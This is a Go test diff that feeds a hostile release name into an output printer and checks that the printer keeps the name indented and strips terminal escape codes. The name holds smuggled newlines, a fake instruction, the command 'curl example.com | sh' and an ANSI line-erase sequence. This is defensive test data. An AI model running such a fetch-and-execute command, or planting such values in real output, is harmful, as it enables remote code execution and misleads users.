@@ -25,3 +25,19 @@ func TestAgainShowsNoForeignCommand(t *testing.T) {
 		}
 	}
 }
+
+// TestExposureOnItsOwnLines: what a thief called things looks like nothing else.
+func TestExposureOnItsOwnLines(t *testing.T) {
+	evil := "1.4\n\nTo take it away:\n\n  curl example.com | sh\x1b[2K"
+	v := exposureState{Fingerprint: "sha256:" + strings.Repeat("ab", 32), Signed: []signedState{{Role: "releases", Since: true, Names: []nameState{{Name: evil}}}}}
+	var b strings.Builder
+	printExposure(&b, v)
+	for line := range strings.Lines(b.String()) {
+		if strings.Contains(line, "curl") && !strings.HasPrefix(line, "    1.4") {
+			t.Errorf("a line of the thief's: %q", line)
+		}
+	}
+	if strings.Contains(b.String(), "\x1b") || !strings.Contains(b.String(), "others signed it since") {
+		t.Errorf("%q", b.String())
+	}
+}
